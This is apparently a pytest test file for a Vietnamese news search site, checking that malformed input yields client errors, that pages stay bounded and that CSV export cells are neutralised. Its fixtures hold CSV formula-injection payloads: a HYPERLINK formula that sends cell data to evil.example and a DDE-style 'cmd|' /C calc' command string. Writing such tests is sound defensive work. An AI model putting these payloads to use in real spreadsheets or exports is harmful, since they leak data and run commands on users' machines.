"""Careless and hostile input to the site: 400s not 500s, inert CSV cells, bounded pages."""
from __future__ import annotations

import csv
import io
import json

import pytest
from web_conftest_helpers import build_web_index, real_sentences

from index.writer import index_documents
from web.app import create_app
from web.serving import close_engine
from web.views import MAX_PAGE_FILTERS

FORMULAS = {
    "f-eq": ('=HYPERLINK("http://evil.example/?"&A1,"Xem")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    "f-plus": ("+84 tỉnh ủy Long An", "-2+3 báo"),
    "f-tab": ("\tTỉnh ủy Long An họp", "\rbáo cáo"),
}
COMMA_SOURCE = "Báo Long An, cơ quan của Đảng bộ tỉnh"
LONG_CHARS = 900_000  # the indexer's limit today is 1,000,000 characters


@pytest.fixture(scope="module")
def odd_app(tmp_path_factory):
    """A site over articles with formula-like titles and sources, a comma in a source, and a long report."""
    root = tmp_path_factory.mktemp("odd")
    sentences = real_sentences()
    records = [{"id": doc_id, "title": title, "source": source, "category": title,
                "text": "Tỉnh ủy Long An quán triệt Nghị quyết Trung ương 4 khóa XII. " + sentences[i]}
               for i, (doc_id, (title, source)) in enumerate(FORMULAS.items())]
    records.append({"id": "comma", "title": "Long An sơ kết Nghị quyết Trung ương 4", "source": COMMA_SOURCE,
                    "text": "Tỉnh ủy Long An sơ kết Nghị quyết Trung ương 4 khóa XII. " + sentences[5]})
    filler = " ".join(sentences)
    body = (filler + "\n") * (LONG_CHARS // (len(filler) + 1))
    records.append({"id": "long", "title": "Báo cáo tổng kết rất dài", "source": "baolongan.vn",
                    "text": body + "\nCuối báo cáo: kỷ luật phát ngôn của cán bộ đảng viên.\n" + filler})
    jsonl = root / "odd.jsonl"
    jsonl.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8")
    report = index_documents([jsonl], root / "index", workers=1)
    assert report.added == len(records) and not report.skipped, report
    app = create_app({"TESTING": True, "INDEX_DIR": str(root / "index")})
    yield app
    close_engine(app)


def test_csv_export_cells_never_start_a_formula(odd_app):
    raw = odd_app.test_client().get("/export.csv", query_string={"q": "Long An"}).get_data().decode("utf-8-sig")
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw, newline=""))}
    assert set(FORMULAS) <= set(rows)
    for doc_id, (title, source) in FORMULAS.items():
        row = rows[doc_id]
        for column, original in (("title", title), ("source", source), ("category", title)):
            assert row[column] == "'" + original, (doc_id, column)
    for row in rows.values():
        assert not any(cell[:1] in "=+-@\t\r" for cell in row.values() if cell)
    assert rows["comma"]["title"] == "Long An sơ kết Nghị quyết Trung ương 4"  # plain cells untouched


def test_a_comma_in_a_source_stays_one_facet_value(odd_app):
    client = odd_app.test_client()
    data = client.get("/api/search", query_string={"q": "sơ kết"}).get_json()
    assert [h["source"] for h in data["hits"] if h["id"] == "comma"] == [COMMA_SOURCE]
    sources = [v["value"] for v in data["facets"]["source"]]
    assert len(sources) == len(set(sources)) and not any(s.strip() == "cơ quan của Đảng bộ tỉnh" for s in sources)
    filtered = client.get("/api/search", query_string={"source": COMMA_SOURCE}).get_json()
    assert [h["id"] for h in filtered["hits"]] == ["comma"] and filtered["filters"]["source"] != ["Báo Long An"]
    page = client.get("/doc/comma").get_data(as_text=True)
    assert COMMA_SOURCE in page


def test_a_long_report_gets_a_snippet_from_deep_inside_and_a_bounded_page(odd_app):
    client = odd_app.test_client()
    hits = client.get("/api/search", query_string={"q": "kỷ luật phát ngôn"}).get_json()["hits"]
    long_hit = next(h for h in hits if h["id"] == "long")
    assert "<mark>kỷ luật phát ngôn</mark>" in long_hit["snippet"] and long_hit["snippet"].startswith("…")
    assert len(long_hit["snippet"]) < 2000
    r = client.get("/doc/long", query_string={"q": "Nghị quyết"})
    html = r.get_data(as_text=True)
    assert r.status_code == 200 and "trang này hiển thị phần đầu" in html and "<mark>" in html
    assert len(html) < LONG_CHARS / 2  # the start of the report, not all of it
    assert client.get("/doc/f-eq").get_data(as_text=True).count("trang này hiển thị phần đầu") == 0


@pytest.mark.parametrize("host", ["x" * 300, "bad host<>", "[::1"])
@pytest.mark.parametrize("path", ["/", "/doc/comma", "/tong-quan", "/facets/province", "/no-such-page"])
def test_a_bad_host_header_is_a_client_error(odd_app, host, path):
    r = odd_app.test_client().get(path, environ_overrides={"HTTP_HOST": host})
    assert r.status_code < 500, (host, path, r.status_code)


@pytest.mark.parametrize("url", [
    "/api/facets/province?limit=²", "/api/facets/province?limit=" + "9" * 5000, "/api/facets/province?limit=0",
    "/api/search?page=" + "9" * 5000, "/?size=²", "/api/search?size=٣",
])
def test_bad_numbers_are_400_with_a_short_message(odd_app, url):
    r = odd_app.test_client().get(url)
    assert r.status_code == 400
    text = r.get_data(as_text=True)
    assert len(text) < 20_000 and ("whole number" in text if url.startswith("/api/") else "số nguyên" in text)


def test_a_missing_index_page_does_not_show_the_server_path(tmp_path):
    app = create_app({"TESTING": True, "INDEX_DIR": str(tmp_path / "secret-folder")})
    for url in ("/", "/api/search", "/doc/x"):
        r = app.test_client().get(url)
        assert r.status_code == 503 and "secret-folder" not in r.get_data(as_text=True)


# -- bounded cost ----------------------------------------------------------------------------
@pytest.fixture(scope="module")
def web_client(tmp_path_factory):
    app = create_app({"TESTING": True, "INDEX_DIR": str(build_web_index(tmp_path_factory.mktemp("webcorpus")))})
    yield app.test_client()
    close_engine(app)


def test_drop_a_filter_totals_equal_the_searches_they_stand_for(web_client):
    query = {"q": "nghị quyết", "province": ["Long An", "Cần Thơ"], "source": ["baoangiang.com.vn"], "term": "XII"}
    data = web_client.get("/api/search", query_string=query).get_json()
    assert data["total"] == 0 and len(data["without_filter"]) == 4
    for dropped in data["without_filter"]:
        smaller = {k: ([x for x in v if x != dropped["value"]] if isinstance(v, list) else v)
                   for k, v in query.items() if not (k == dropped["facet"] and v == dropped["value"])}
        assert dropped["total"] == web_client.get("/api/search", query_string=smaller).get_json()["total"], dropped
    assert any(d["total"] for d in data["without_filter"])
    html = web_client.get("/", query_string=query).get_data(as_text=True)
    assert html.count("Bỏ bộ lọc <a") == 4


def test_a_page_with_too_many_filter_values_is_refused_quickly_and_the_api_still_answers(web_client):
    values = [f"Tỉnh {i}" for i in range(MAX_PAGE_FILTERS + 1)]
    r = web_client.get("/", query_string={"province": values})
    assert r.status_code == 400 and "quá nhiều bộ lọc" in r.get_data(as_text=True)
    assert web_client.get("/", query_string={"province": values[:MAX_PAGE_FILTERS]}).status_code == 200
    assert web_client.get("/api/search", query_string={"province": values}).status_code == 200


@pytest.mark.parametrize("term", ["²", "9" * 5000, "٣"])
def test_odd_digits_in_a_facet_value_are_no_server_error(odd_app, term):
    for url in ("/api/search", "/api/export", "/facets/province"):
        r = odd_app.test_client().get(url, query_string={"term": term})
        assert r.status_code in (200, 400), (url, r.status_code)
